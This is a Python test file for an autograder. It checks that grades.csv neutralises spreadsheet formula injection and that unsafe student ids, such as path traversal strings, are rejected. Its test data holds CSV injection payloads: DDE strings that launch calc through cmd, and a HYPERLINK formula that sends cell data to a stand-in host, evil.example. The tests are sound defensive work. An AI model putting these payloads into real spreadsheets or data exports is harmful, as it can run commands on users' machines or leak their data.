"""Spreadsheet formula injection through grades.csv. Issue 9, point 9.

grades.csv is opened in spreadsheets. A cell that starts with = + - @, a tab or a carriage
return may be run as a formula, so every text cell (student id, assignment, question) is
written with a leading ``'`` in that case (OWASP's rule), and the csv module quotes what
needs quoting. Student ids reach grades.csv from grade.json files, so the attack is
planted there: a folder name is validated before it is used (test_integrity_files.py).
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from autograder.grading.submission_files import is_safe_id
from autograder.batch.grade import write_grades_csv, write_student
from autograder.batch.result_files import FORMULA_PREFIXES, spreadsheet_safe
from autograder.grading.results import QuestionResult, SubmissionResult

A2 = "a2_feedforward"
HOSTILE_IDS = [
    "=SUM(1+1)*cmd|x",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HONEST_IDS = ["alice", "bob", "jane.doe", "a,b\"c\nd"]  # separators and quotes: kept intact by the quoting


def result_for(student: str, question: str = "forward") -> SubmissionResult:
    return SubmissionResult(student, A2, [QuestionResult(question, 1.0, 3.0, 1, 3, "feedback")])


def plant(out: Path, folder: str, result: SubmissionResult) -> None:
    """A grade.json whose student field was not checked (written by another tool, or edited)."""
    (out / folder).mkdir(parents=True)
    (out / folder / "grade.json").write_text(json.dumps(result.to_dict()))


def read_back(out: Path) -> list[list[str]]:
    with open(out / "grades.csv", newline="") as handle:
        return list(csv.reader(handle))


def test_no_text_cell_of_grades_csv_can_start_a_formula(tmp_path):
    for index, student in enumerate(HOSTILE_IDS + HONEST_IDS):
        plant(tmp_path, f"s{index:02d}", result_for(student, question="=cmd|' /C calc'!A0" if index == 0 else "forward"))
    write_grades_csv(tmp_path, A2)
    header, *rows = read_back(tmp_path)
    assert header == ["student_id", "assignment", "question", "score", "max_score", "late"]
    assert len(rows) == len(HOSTILE_IDS) + len(HONEST_IDS)
    for row in rows:
        assert len(row) == 6
        for cell in row[:3]:
            assert not cell.startswith(FORMULA_PREFIXES), row
        assert row[3:] == ["1", "3", ""]  # numbers stay numbers (and none was late)
    by_id = {row[0]: row for row in rows}
    for student in HOSTILE_IDS:
        assert ("'" + student) in by_id, student  # shown as typed, never evaluated
    for student in HONEST_IDS:
        assert student in by_id  # other ids are not touched, whatever characters they hold
    assert by_id["'" + HOSTILE_IDS[0]][2] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("text, safe", [
    ("=SUM(1+1)*cmd|x", "'=SUM(1+1)*cmd|x"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("alice", "alice"), ("a=b", "a=b"), ("", ""),
])
def test_spreadsheet_safe_follows_owasp(text, safe):
    assert spreadsheet_safe(text) == safe


def test_files_are_never_written_for_an_unsafe_student_id(tmp_path):
    """Ids that are not safe folder names; formula-like ids are safe folder names, graded like
    any other (grades.csv neutralises them)."""
    unsafe = [s for s in HOSTILE_IDS if not is_safe_id(s)]
    assert unsafe, "some hostile ids must be unsafe as folder names"
    for student in unsafe + ["../escape", "..", "a/b", ".hidden", "-rf", "new\nline"]:
        with pytest.raises(ValueError, match="unsafe student id"):
            write_student(tmp_path / "out", result_for(student))
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
    assert not (tmp_path / "escape").exists()
